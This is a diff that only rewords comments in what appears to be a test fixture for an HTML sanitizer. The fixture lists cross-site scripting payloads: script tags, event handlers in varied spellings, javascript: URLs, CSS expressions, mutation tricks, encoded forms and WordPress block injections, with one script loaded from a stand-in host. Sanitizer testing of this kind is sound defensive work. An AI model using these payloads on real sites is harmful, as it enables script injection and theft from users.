@@ -1,7 +1,7 @@
-// HTML that means harm: known ways to run scripts in a page.
+// Malicious HTML: known ways to run scripts in a page.
 
 export const attacks = [
-  // Elements that run, load or take over the page.
+  // Elements that run scripts, load documents or change the whole page.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<script/x>alert(1)</script>',
@@ -27,7 +27,7 @@ export const attacks = [
   '<keygen autofocus onfocus="alert(1)">',
   '<template><script>alert(1)</script></template>',
   '<portal src="javascript:alert(1)"></portal>',
-  // Event handlers in many spellings.
+  // Event handlers in many notations.
   '<img src=x onerror=alert(1)>',
   '<img src=x OnErRoR="alert(1)">',
   '<img src=x onerror\n=\nalert(1)>',
@@ -49,7 +49,7 @@ export const attacks = [
   '<a href="#" onclick="alert(1)" x="',
   '<img src=x on\u0000error=alert(1)>',
   '<img src=x xonerror=1 onerror =alert(1)',
-  // javascript: in many spellings.
+  // javascript: in many notations.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -110,7 +110,7 @@ export const attacks = [
   '<p style="behavior:url(#default#time2)">x</p>',
   '<p style="color:red;x:expression(alert(1))">x</p>',
   '<p style=\'font-family:"</style><script>alert(1)</script>"\'>x</p>',
-  // Mutation: harmless to one parser, harmful after the next.
+  // Mutation: harmless in the first parse, harmful in the next one.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -139,13 +139,13 @@ export const attacks = [
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
   '＜script＞alert(1)＜/script＞',
   '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-  // Blocks that carry markup.
+  // Blocks with HTML.
   '<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
   '<!-- wp:paragraph {"x":"--><script>alert(1)</script>"} --><p>x</p><!-- /wp:paragraph -->',
   '<!-- wp:paragraph {"content":"<img src=x onerror=alert(1)>"} --><p>x</p><!-- /wp:paragraph -->',
   '<!-- wp:image {"url":"javascript:alert(1)"} --><figure><img src="javascript:alert(1)"/></figure><!-- /wp:image -->',
   '<!-- wp:button --><a class="x" href="javascript:alert(1)">x</a><!-- /wp:button -->',
-  // Addresses that turn into links or players on their own line.
+  // URLs that become links or players if they are on their own line.
   '\njavascript:alert(1)\n',
   '\nhttp://example.org/"onmouseover="alert(1)\n',
 ]
